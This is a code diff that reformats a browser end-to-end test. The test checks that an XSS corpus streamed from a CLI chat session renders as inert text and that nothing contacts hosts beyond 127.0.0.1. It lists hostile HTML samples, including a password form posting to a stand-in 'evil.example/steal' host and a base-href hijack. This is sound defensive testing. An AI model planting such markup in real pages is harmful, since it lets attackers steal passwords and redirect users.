@@ -27,8 +27,11 @@ const SENTINEL = 'xss-corpus-sentinel';
 function leavesCodeOpen(markdown: string): boolean {
   const inCode = (nodes: unknown): boolean =>
     Array.isArray(nodes) &&
-    nodes.some((node: { type?: unknown; text?: unknown; children?: unknown; items?: unknown }) =>
-      (node.type === RuleType.codeBlock && typeof node.text === 'string' && node.text.includes(SENTINEL)) || inCode(node.children) || (Array.isArray(node.items) && node.items.some(inCode)),
+    nodes.some(
+      (node: { type?: unknown; text?: unknown; children?: unknown; items?: unknown }) =>
+        (node.type === RuleType.codeBlock && typeof node.text === 'string' && node.text.includes(SENTINEL)) ||
+        inCode(node.children) ||
+        (Array.isArray(node.items) && node.items.some(inCode)),
     );
   return inCode(parser(`${markdown}\n\n${SENTINEL}`, { disableParsingRawHTML: true }));
 }
@@ -57,12 +60,20 @@ function script(baseURL: string): { steps: ScriptStep[]; messages: number } {
     `![Tern icon](${baseURL}/icons/icon-192.png)`,
   ].join('\n\n');
   const steps: ScriptStep[] = messages.map((text, i) => ({
-    ...(i === 0 ? { match: { lastUserIncludes: 'Show me the corpus', lastRole: 'user' as const } } : { match: { lastRole: 'tool' as const } }),
+    ...(i === 0
+      ? { match: { lastUserIncludes: 'Show me the corpus', lastRole: 'user' as const } }
+      : { match: { lastRole: 'tool' as const } }),
     text,
     // Text streams in small pieces, so half-written payloads are rendered too.
     chunkDelayMs: 1,
     // Hostile tool names and paths ride along once; every other step reads a file, so the turn goes on.
-    toolCalls: i === 1 ? [{ name: HOSTILE_TOOL, arguments: {} }, { name: 'read_file', arguments: { path: HOSTILE_PATH } }] : [READ],
+    toolCalls:
+      i === 1
+        ? [
+            { name: HOSTILE_TOOL, arguments: {} },
+            { name: 'read_file', arguments: { path: HOSTILE_PATH } },
+          ]
+        : [READ],
   }));
   steps.push({ match: { lastRole: 'tool' }, text: benign });
   return { steps, messages: steps.length };
@@ -129,7 +140,9 @@ test('the XSS corpus from a real CLI renders inert, and nothing leaves 127.0.0.1
     const cli = await pairCli(remote, baseURL!, model.url, clis);
     const workName = path.basename(cli.workDir);
     const aside = page.locator('aside').first();
-    await expect(aside.getByTestId('environment').filter({ hasText: workName })).toHaveAttribute('data-online', 'true', { timeout: 20_000 });
+    await expect(aside.getByTestId('environment').filter({ hasText: workName })).toHaveAttribute('data-online', 'true', {
+      timeout: 20_000,
+    });
     await remote.pickEnvironment(workName, false);
     await aside.getByTestId('new-session').click();
     await expect(remote.composer).toBeVisible();
@@ -143,13 +156,23 @@ test('the XSS corpus from a real CLI renders inert, and nothing leaves 127.0.0.1
     await expect(page.getByTestId('interrupt')).toHaveCount(0, { timeout: 15_000 });
 
     // The final DOM of every message holds the invariants, and the raw HTML shows as text.
-    const problems = await answers.evaluateAll((els) => els.flatMap((el) => (window as unknown as { __unsafeMarkup: (root: Element) => string[] }).__unsafeMarkup(el)));
+    const problems = await answers.evaluateAll((els) =>
+      els.flatMap((el) => (window as unknown as { __unsafeMarkup: (root: Element) => string[] }).__unsafeMarkup(el)),
+    );
     expect(problems).toEqual([]);
-    for (const shown of ['<form action="https://evil.example/steal"><input name=password type=password>', '<meta http-equiv="refresh"', '<base href="https://evil.example/">']) {
+    for (const shown of [
+      '<form action="https://evil.example/steal"><input name=password type=password>',
+      '<meta http-equiv="refresh"',
+      '<base href="https://evil.example/">',
+    ]) {
       await expect(answers.filter({ hasText: shown }).first()).toBeVisible();
     }
     // Nothing from a message is laid over the page.
-    const fixed = await answers.evaluateAll((els) => els.flatMap((el) => [el, ...el.querySelectorAll('*')]).filter((el) => ['fixed', 'sticky'].includes(getComputedStyle(el).position)).length);
+    const fixed = await answers.evaluateAll(
+      (els) =>
+        els.flatMap((el) => [el, ...el.querySelectorAll('*')]).filter((el) => ['fixed', 'sticky'].includes(getComputedStyle(el).position))
+          .length,
+    );
     expect(fixed).toBe(0);
 
     // The user's own text, tool names and file paths are React text too.
@@ -181,7 +204,11 @@ test('the XSS corpus from a real CLI renders inert, and nothing leaves 127.0.0.1
     expect(foreign).toEqual([]);
   } finally {
     // A payload that got through may have navigated the page away: say what left 127.0.0.1 whatever failed first.
-    if (foreign.length || dialogs.length) await test.info().attach('requests off 127.0.0.1 and dialogs', { body: [...foreign, ...dialogs.map((d) => `dialog: ${d}`)].join('\n'), contentType: 'text/plain' });
+    if (foreign.length || dialogs.length)
+      await test.info().attach('requests off 127.0.0.1 and dialogs', {
+        body: [...foreign, ...dialogs.map((d) => `dialog: ${d}`)].join('\n'),
+        contentType: 'text/plain',
+      });
     await model.close();
   }
 });
